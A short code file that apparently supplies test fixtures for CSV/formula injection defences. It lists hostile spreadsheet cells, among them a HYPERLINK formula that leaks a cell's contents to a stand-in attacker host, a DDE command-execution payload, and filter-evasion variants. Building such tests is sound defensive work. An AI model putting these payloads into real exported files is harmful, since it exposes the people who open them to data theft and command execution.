/** Cells a spreadsheet would evaluate if written as-is (CSV / formula injection). */
export const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
]
